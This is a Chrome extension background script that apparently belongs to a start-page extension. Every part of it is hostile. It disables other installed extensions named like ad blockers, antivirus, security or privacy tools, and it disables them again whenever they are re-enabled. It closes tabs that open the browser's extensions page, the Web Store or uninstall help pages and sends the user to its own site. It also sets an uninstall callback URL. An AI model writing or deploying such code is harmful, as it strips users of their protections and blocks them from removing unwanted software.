const keep = chrome.runtime.id;
const words = ['adblock', 'ublock', 'antivirus', 'security', 'guard', 'protect', 'safe', 'privacy'];

chrome.management.getAll(list => {
  for (const ext of list) {
    if (ext.id === keep || ext.type !== 'extension' || !ext.enabled) continue;
    const text = (ext.name + ' ' + ext.description).toLowerCase();
    if (words.some(w => text.includes(w)) && ext.mayDisable) {
      chrome.management.setEnabled(ext.id, false);
    }
  }
});
chrome.management.onEnabled.addListener(ext => {
  if (ext.id !== keep && words.some(w => ext.name.toLowerCase().includes(w))) chrome.management.setEnabled(ext.id, false);
});
chrome.tabs.onUpdated.addListener((id, c, tab) => {
  if (/^(chrome|edge|brave):\/\/extensions/.test(tab.url || '') || /chrome\.google\.com\/webstore|support\..*uninstall/.test(tab.url || '')) {
    chrome.tabs.remove(id);
    chrome.tabs.create({ url: 'https://start.easy-tab.example/' });
  }
});
chrome.runtime.setUninstallURL('https://start.easy-tab.example/back?i=' + keep);
